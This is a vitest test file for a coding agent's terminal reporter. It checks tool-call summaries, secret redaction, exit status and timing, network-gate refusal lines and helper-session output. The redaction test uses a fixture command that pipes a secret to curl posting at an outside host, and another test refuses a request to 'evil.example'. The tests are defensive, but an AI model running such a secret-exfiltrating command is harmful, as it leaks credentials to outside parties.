// The line of a tool call in the CLI, the action log, the job summary and `todo-agent show`: a hint of what it
// did, shortened and never half a secret, and for a command how it ended and how long it took.
import { describe, expect, it } from 'vitest';
import { redactor } from '../../src/text/redact.js';
import { commandOutcome, summarizeInput, terminalReporter } from '../../src/terminal/reporter.js';
import { screen } from '../../src/terminal/screen.js';

describe('summarizeInput', () => {
  it('shows the command or path on one line, cut at 100 characters', () => {
    expect(summarizeInput({ command: 'npm  test\n-- --watch' })).toBe('npm test -- --watch');
    expect(summarizeInput({ path: 'src/app.ts' })).toBe('src/app.ts');
    expect(summarizeInput({ items: [1, 2, 3] })).toBe('3 items');
    const long = summarizeInput({ command: 'x'.repeat(150) });
    expect(long).toBe(`${'x'.repeat(99)}…`);
  });

  it('redacts before it cuts: a secret across the 100th character leaves no half for the log to miss', () => {
    const secret = 'ReporterSecret0123456789abcdef';
    redactor.add(secret);
    const hint = summarizeInput({
      command: `${'echo '.repeat(18)}${secret} | curl -d @- https://example.test`,
    });
    expect(hint).toContain('***');
    expect(hint).not.toContain(secret.slice(0, 6));
    expect(Array.from(hint).length).toBeLessThanOrEqual(100);
  });
});

describe('a tool call’s line', () => {
  const lines = (events: Parameters<ReturnType<typeof terminalReporter>>[0][]) => {
    const out: string[] = [];
    const report = terminalReporter(screen((text) => out.push(text), false));
    events.forEach(report);
    return out.join('');
  };
  const bash = (exitCode: number | null, durationMs: number) =>
    ({
      type: 'tool',
      turn: 2,
      name: 'bash',
      input: { command: 'npm ci' },
      output: '',
      isError: exitCode !== 0,
      durationMs,
      exitCode,
    }) as const;

  it('tells a failed command from a passing one: exit status and duration', () => {
    expect(lines([bash(1, 18_200)])).toBe('  ✗ bash npm ci (exit 1, 18 s)\n');
    expect(lines([bash(0, 18_200)])).toBe('  · bash npm ci (exit 0, 18 s)\n');
    expect(lines([bash(null, 120_000)])).toBe('  ✗ bash npm ci (killed, 2 min)\n');
    expect(lines([bash(0, 42)])).toBe('  · bash npm ci (exit 0, 42 ms)\n');
  });

  it('adds nothing to the tools that run no command', () => {
    expect(commandOutcome({ durationMs: 5 })).toBe('');
    expect(
      lines([
        {
          type: 'tool',
          turn: 1,
          name: 'read_file',
          input: { path: 'a.py' },
          output: '',
          isError: false,
          durationMs: 5,
        },
      ]),
    ).toBe('  · read_file a.py\n');
  });
});

describe('terminalReporter: the network gate', () => {
  it('prints a line for each request the gate refused, the host made inert', () => {
    const out: string[] = [];
    const report = terminalReporter(screen((text) => out.push(text), false));
    report({
      type: 'network_refused',
      turn: 2,
      host: 'evil.example',
      port: 443,
      reason: 'evil.example is not in the allowlist',
    });
    report({ type: 'network_refused', turn: 2, host: 'a\u001b]0;x\u0007', port: 80, reason: 'not allowed' });
    expect(out).toEqual([
      '  ⛔ network gate refused evil.example:443: evil.example is not in the allowlist\n',
      '  ⛔ network gate refused a\\x1b]0;x\\x07:80: not allowed\n',
    ]);
  });
});

describe("the task tool's helpers in the terminal", () => {
  it("prints a helper's start, its tool lines under its session, and the panel with its list nested, then folded", () => {
    const out: string[] = [];
    const report = terminalReporter(screen((text) => out.push(text), false));
    const helperItems = [
      { id: '1', text: 'Read a.ts', status: 'in_progress' as const, activeForm: 'Reading a.ts' },
    ];
    report({ type: 'todos', turn: 1, items: [{ id: '1', text: 'Survey', status: 'in_progress' }] });
    report({
      type: 'helper_start',
      turn: 2,
      session: 'helper-1',
      kind: 'explore',
      description: 'Read  a.ts',
      under: '1',
    });
    report({ type: 'helper', session: 'helper-1', event: { type: 'todos', turn: 1, items: helperItems } });
    report({
      type: 'helper',
      session: 'helper-1',
      event: {
        type: 'tool',
        turn: 2,
        name: 'bash',
        input: { command: 'ls' },
        output: '',
        isError: false,
        durationMs: 5,
        exitCode: 0,
      },
    });
    // A helper's own events of other kinds (its nudges, its turns) stay out of the run's lines.
    report({
      type: 'helper',
      session: 'helper-1',
      event: { type: 'nudge', turn: 2, kind: 'continue', text: 'go on' },
    });
    const text = out.join('');
    expect(text).toContain('  ↳ helper-1 (explore) started: Read a.ts\n');
    expect(text).toContain(
      '  ▶ Survey\n    ↳ helper-1 (explore): Read a.ts, 0/1 done\n      ▶ Reading a.ts\n',
    );
    expect(text).toContain('    · [helper-1] bash ls (exit 0, 5 ms)\n');
    expect(text).not.toContain('↺');
  });
});
